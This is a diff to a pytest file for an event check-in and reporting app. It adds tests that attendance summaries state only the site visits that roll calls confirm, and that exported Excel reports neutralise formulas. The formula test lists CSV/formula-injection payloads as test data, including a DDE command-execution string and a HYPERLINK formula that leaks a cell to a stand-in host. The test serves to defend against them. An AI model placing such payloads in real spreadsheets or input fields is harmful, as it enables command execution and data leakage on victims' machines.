@@ -6,6 +6,7 @@ import dataclasses
 import datetime as dt
 import json
 import re
+import zipfile
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -13,11 +14,19 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from checkin_app import checkin, demo, events, logistics, reports, roles
+from checkin_app import checkin, demo, events, leaders, logistics, reports, roles
 from checkin_app.checkin import Desk, WalkIn
 from checkin_app.cli import main
 from checkin_app.db import Database
-from checkin_app.models import LogKind, Participant, Station, Status
+from checkin_app.models import (
+    Activity,
+    LogEvent,
+    LogKind,
+    Participant,
+    SeatAssignment,
+    Station,
+    Status,
+)
 
 EVENT = "晋城市城市管理局2024年政府开放周"
 # The demo's open week held on the plan's days (the demo itself is held from today).
@@ -166,7 +175,39 @@ def test_summary_text_for_publication(day: Day) -> None:
     assert "含现场登记1人" in text
     for c in board.categories:
         assert f"{c.category}{c.attended}人" in text
-    assert "生活垃圾焚烧发电厂" in text and "共6个点位" in text
+    # No leader took a roll call at any site: the plan is stated, the visits are not claimed.
+    assert "行程安排观摩" in text and "共6个点位" in text and "实际观摩情况请核实" in text
+    assert "实地观摩了" not in text
+
+
+def test_summary_says_which_planned_sites_the_roll_calls_show_were_visited(day: Day) -> None:
+    green = day.activities["绿色城管"]
+    with day.db.transaction() as s:
+        act = s.get(Activity, green)
+        assert act is not None
+        first, second, _ = (stop.site_id for stop in act.stops)
+        seat = s.scalars(
+            select(SeatAssignment).where(SeatAssignment.participant_id == day.came["绿色城管"][0])
+        ).one()
+        assert seat.group_id is not None
+        for site in (first, second):
+            leaders.tick(
+                s, seat.group_id, seat.participant_id, site, present=True, at=TIMES["绿色城管"]
+            )
+    with day.db.reading() as s:
+        board = reports.dashboard(s, day.event_id)
+    (row,) = [a for a in board.activities if a.name == "绿色城管"]
+    assert row.visited == ("泽州县垃圾分类宣教中心", "餐厨垃圾处理公司")
+    text = reports.summary_text(board)
+    assert "行程安排观摩" in text and "共6个点位" in text
+    assert "实际观摩了泽州县垃圾分类宣教中心、餐厨垃圾处理公司共2个点位" in text
+    assert "生活垃圾焚烧发电厂" in text.split("实际观摩了")[1].split("没有点名记录")[0]
+    # Roll calls at every planned site: the visits are stated as done.
+    everywhere = dataclasses.replace(
+        board, activities=tuple(dataclasses.replace(a, visited=a.sites) for a in board.activities)
+    )
+    text = reports.summary_text(everywhere)
+    assert "参加人员按行程实地观摩了" in text and "共6个点位" in text and "核实" not in text
 
 
 def test_summary_text_never_nests_quotation_marks(day: Day) -> None:
@@ -280,3 +321,73 @@ def test_report_of_an_event_with_no_checkins(db: Database, tmp_path: Path) -> No
     with db.reading() as s:
         info = reports.export_report(s, event_id, tmp_path / "empty.xlsx")
     assert info.attended == 0 and "尚无签到记录" in info.summary
+
+
+# --- Names from the public are never formulas ----------------------------------------------------
+
+# What a registrant or a forged bundle could put in a name, a category, a station, an operator or
+# a reason: a link that leaks the next cell, DDE, and each other start that makes a formula.
+HOSTILE = (
+    '=HYPERLINK("http://x"&B2,"点我")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-3+4",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "#N/A",
+)
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t")
+
+
+def _make_hostile(day: Day) -> None:
+    with day.db.transaction() as s:
+        absent = [pid for v in day.absent.values() for pid in v]
+        for n, pid in enumerate([*absent, day.walk_in]):
+            p = s.get(Participant, pid)
+            assert p is not None
+            p.name = HOSTILE[n % len(HOSTILE)]
+            # A control character too: openpyxl refuses to write it (IllegalCharacterError).
+            p.category = HOSTILE[(n + 1) % len(HOSTILE)] + "\x01"
+        walk_in = s.scalars(select(LogEvent).where(LogEvent.kind == LogKind.WALKIN)).one()
+        walk_in.station, walk_in.operator, walk_in.reason = HOSTILE[1], HOSTILE[0], HOSTILE[4]
+
+
+def _formulas_in_xml(path: Path) -> dict[str, int]:
+    """`<f>` elements per worksheet part, read from the file's bytes."""
+    with zipfile.ZipFile(path) as archive:
+        return {
+            name: len(re.findall(rb"<(?:\w+:)?f[ >/]", archive.read(name)))
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/")
+        }
+
+
+def test_no_cell_of_the_report_is_a_formula(day: Day, tmp_path: Path) -> None:
+    _make_hostile(day)
+    out = tmp_path / "报告.xlsx"
+    url = day.db.url
+    assert main(["report", "--event", EVENT, "--xlsx", str(out), "--db", url, "--json"]) == 0
+    assert set(_formulas_in_xml(out).values()) == {0}
+    book = load_workbook(out)
+    found: dict[str, set[str]] = {}
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", cell.coordinate
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
+                    column = str(ws.cell(1, cell.column).value)
+                    found.setdefault(ws.title, set()).add(column)
+                if isinstance(cell.value, str):
+                    assert "\x01" not in cell.value
+    assert found["未到人员"] >= {"姓名", "类别"}
+    assert found["按类别"] == {"类别"}
+    assert found["现场登记"] >= {"姓名", "类别", "签到点", "操作人", "原因"}
+    no_shows = [r[1] for r in _sheet(book, "未到人员")[1:]]
+    assert set(no_shows) <= set(HOSTILE) and '=HYPERLINK("http://x"&B2,"点我")' in no_shows
+    assert "#N/A" in no_shows  # text, not Excel's error value
+    # Counts stay numbers.
+    summary = book["汇总"]
+    assert summary["B6"].data_type == "n" and isinstance(summary["B6"].value, int)
